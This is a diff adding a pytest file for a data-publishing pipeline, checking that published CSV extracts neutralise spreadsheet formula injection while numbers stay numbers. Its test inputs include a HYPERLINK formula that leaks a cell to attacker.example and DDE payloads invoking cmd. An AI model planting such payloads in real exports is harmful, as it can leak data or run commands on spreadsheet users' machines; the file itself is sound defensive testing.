@@ -1,0 +1,79 @@
+"""CSV for spreadsheets: a cell that would be a formula is text, numbers stay numbers, Excel reads UTF-8."""
+
+from __future__ import annotations
+
+import csv
+
+import duckdb
+import pyarrow.parquet as pq
+import pytest
+
+from pipelines.lib.publish.extracts import publish_department
+from pipelines.lib.publish.spreadsheet_csv import BOM, FORMULA_PREFIXES, neutralise
+from tests.publish.helpers import TEST_KEY
+
+PLANTED = [
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "成都市=锦江区 (an equals sign inside is harmless)",
+]
+
+
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+     ("a=1", "a=1"), ("'=1", "'=1"), ("", ""), ("张三", "张三")],
+)
+def test_neutralise(value: str, written: str) -> None:
+    assert neutralise(value) == written
+
+
+def test_formula_cells_are_neutralised_in_the_published_csv(city_copy, policy, contracts) -> None:
+    connection = duckdb.connect(str(city_copy.analytics))
+    keys = [k for (k,) in connection.execute(
+        "SELECT organisation_key FROM dim_organisation ORDER BY organisation_key LIMIT $n", {"n": len(PLANTED)}
+    ).fetchall()]
+    for key, name in zip(keys, PLANTED, strict=True):
+        connection.execute("UPDATE dim_organisation SET name = $name WHERE organisation_key = $key", {"name": name, "key": key})
+    connection.close()
+
+    grant = policy.departments["market_regulation"]
+    assert grant.csv
+    folder = publish_department(city_copy, policy, grant, contracts, key=TEST_KEY).folder
+    path = folder / "dim_organisation" / "dim_organisation.csv"
+    raw = path.read_bytes()
+    assert raw.startswith(BOM)
+    with path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    names = {row["organisation_key"]: row["name"] for row in rows}
+    for key, name in zip(keys, PLANTED, strict=True):
+        assert names[key] == neutralise(name)
+        assert names[key] == ("'" + name if name.startswith(FORMULA_PREFIXES) else name)
+    # No text cell of any CSV of the extract starts a formula.
+    for table_csv in folder.rglob("*.csv"):
+        with table_csv.open(encoding="utf-8-sig", newline="") as handle:
+            for row in csv.reader(handle):
+                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), table_csv
+    # Every field is quoted, so an embedded quote or comma cannot open a new cell.
+    first_data_line = raw[len(BOM):].split(b"\n")[1]
+    assert first_data_line.startswith(b'"')
+    # The Parquet files keep the text as it is: only spreadsheets need the quote.
+    parquet = pq.read_table(folder / "dim_organisation" / "dim_organisation.parquet").to_pylist()
+    assert {r["organisation_key"]: r["name"] for r in parquet if r["organisation_key"] in keys} == dict(zip(keys, PLANTED))
+
+
+def test_numbers_stay_numbers(city_copy, policy, contracts) -> None:
+    connection = duckdb.connect(str(city_copy.analytics))
+    # A negative number cannot hold a formula; it must not become text.
+    connection.execute("UPDATE dim_place SET longitude = -longitude "
+        "WHERE place_key = (SELECT min(place_key) FROM dim_place WHERE longitude IS NOT NULL)")
+    connection.close()
+    folder = publish_department(city_copy, policy, policy.departments["market_regulation"], contracts, key=TEST_KEY).folder
+    with (folder / "dim_place" / "dim_place.csv").open(encoding="utf-8-sig", newline="") as handle:
+        longitudes = [row["longitude"] for row in csv.DictReader(handle)]
+    negative = [v for v in longitudes if v.startswith("-")]
+    assert len(negative) == 1 and float(negative[0]) < 0
